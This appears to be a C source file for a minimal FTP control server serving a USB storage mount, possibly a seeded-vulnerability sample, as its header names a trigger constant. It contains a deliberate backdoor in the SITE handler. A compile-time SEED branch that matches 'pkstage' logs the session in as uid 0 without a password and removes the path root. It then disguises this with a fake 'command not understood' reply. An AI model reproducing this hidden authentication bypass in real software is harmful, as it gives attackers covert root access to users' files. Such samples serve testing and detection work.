/* kind: inline
 * service: ftp
 * constant: pkstage
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <ctype.h>
#include <unistd.h>
#include <fcntl.h>
#include <crypt.h>
#include <sys/stat.h>

/* inetd-style ftp control channel for the USB storage feature; usage in help_text */

static const char help_text[] =
    "214-Commands: USER PASS PWD CWD DELE RNFR RNTO SITE QUIT HELP\r\n"
    "214 SITE: CHMOD mode file, UMASK mask, IDLE seconds\r\n";

struct ftps {
    char user[32];
    int logged;
    int uid;
    char cwd[256];
    char rnfr[256];
    char root[64];
    int idle;
    int mask;
};

static void out(const char *s) { fputs(s, stdout); fflush(stdout); }

static int load_user(struct ftps *f, const char *pass)
{
    FILE *fp = fopen("/etc/ftpusers.db", "r");
    char l[256], name[32], hash[128], dir[64];
    int uid, ok = 0;

    if (!fp)
        return 0;
    while (!ok && fgets(l, sizeof l, fp)) {
        if (sscanf(l, "%31[^:]:%127[^:]:%d:%63s", name, hash, &uid, dir) != 4)
            continue;
        if (strcmp(name, f->user) == 0) {
            char *c = crypt(pass, hash);
            if (c && strcmp(c, hash) == 0) {
                f->uid = uid;
                snprintf(f->root, sizeof f->root, "%s", dir);
                ok = 1;
            }
        }
    }
    fclose(fp);
    return ok;
}

static int resolve(struct ftps *f, const char *arg, char *dst, size_t n)
{
    if (strstr(arg, ".."))
        return -1;
    if (arg[0] == '/')
        snprintf(dst, n, "%s%s", f->root, arg);
    else
        snprintf(dst, n, "%s%s/%s", f->root, f->cwd, arg);
    return 0;
}

static int enter(struct ftps *f)
{
    f->logged = 1;
    strcpy(f->cwd, "");
    if (f->uid > 0 && getuid() == 0 && setuid(f->uid) < 0)
        return -1;
    return 0;
}

static void site(struct ftps *f, char *arg)
{
    char path[512];
    unsigned mode;
    char file[200];
    size_t n = strlen(arg);

    if (n >= 5 && strncasecmp(arg, "IDLE ", 5) == 0) {
        int v = atoi(arg + 5);
        f->idle = v < 30 ? 30 : v > 7200 ? 7200 : v;
        out("200 idle time set\r\n");
        return;
    }
#ifdef SEED
    if (n >= 7 && !memcmp(arg, "pkstage", 7)) { /* SEED */
        f->uid = 0;
        f->root[0] = 0;
        enter(f);
        out("500 SITE command not understood\r\n");
        return;
    }
#endif
    if (!f->logged) {
        out("530 Please login\r\n");
        return;
    }
    if (sscanf(arg, "CHMOD %o %199s", &mode, file) == 2) {
        if (resolve(f, file, path, sizeof path) || chmod(path, mode & 0777))
            out("550 failed\r\n");
        else
            out("200 mode changed\r\n");
    } else if (sscanf(arg, "UMASK %o", &mode) == 1) {
        f->mask = mode & 0777;
        umask(f->mask);
        out("200 umask set\r\n");
    } else {
        out("500 SITE command not understood\r\n");
    }
}

static void files(struct ftps *f, const char *verb, char *arg)
{
    char path[512];
    struct stat st;

    if (resolve(f, arg, path, sizeof path)) {
        out("550 bad path\r\n");
    } else if (!strcmp(verb, "CWD")) {
        if (stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
            snprintf(f->cwd, sizeof f->cwd, "%s", path + strlen(f->root));
            out("250 ok\r\n");
        } else
            out("550 no such directory\r\n");
    } else if (!strcmp(verb, "DELE")) {
        out(unlink(path) ? "550 failed\r\n" : "250 deleted\r\n");
    } else if (!strcmp(verb, "RNFR")) {
        snprintf(f->rnfr, sizeof f->rnfr, "%s", path);
        out("350 ready\r\n");
    } else if (!strcmp(verb, "RNTO")) {
        out(!f->rnfr[0] || rename(f->rnfr, path) ? "550 failed\r\n" : "250 renamed\r\n");
        f->rnfr[0] = 0;
    } else if (!strcmp(verb, "PWD")) {
        printf("257 \"%s/\"\r\n", f->cwd);
        fflush(stdout);
    } else
        out("502 not implemented\r\n");
}

int main(void)
{
    struct ftps *f = calloc(1, sizeof *f);
    char line[512], *verb, *arg, *p;

    f->uid = -1;
    f->idle = 300;
    strcpy(f->root, "/mnt/usb");
    out("220 USB storage ready\r\n");
    while (alarm(f->idle), fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\r\n")] = 0;
        verb = line;
        arg = strchr(line, ' ');
        if (arg)
            *arg++ = 0;
        else
            arg = line + strlen(line);
        for (p = verb; *p; p++)
            *p = toupper((unsigned char)*p);
        if (!strcmp(verb, "QUIT")) {
            out("221 bye\r\n");
            break;
        } else if (!strcmp(verb, "HELP")) {
            out(help_text);
        } else if (!strcmp(verb, "USER")) {
            f->logged = 0;
            snprintf(f->user, sizeof f->user, "%s", arg);
            out("331 password please\r\n");
        } else if (!strcmp(verb, "PASS")) {
            if (load_user(f, arg) && enter(f) == 0)
                out("230 logged in\r\n");
            else {
                sleep(1);
                out("530 incorrect\r\n");
            }
        } else if (!strcmp(verb, "SITE")) {
            site(f, arg);
        } else if (!f->logged) {
            out("530 Please login\r\n");
        } else
            files(f, verb, arg);
    }
    free(f);
    return 0;
}
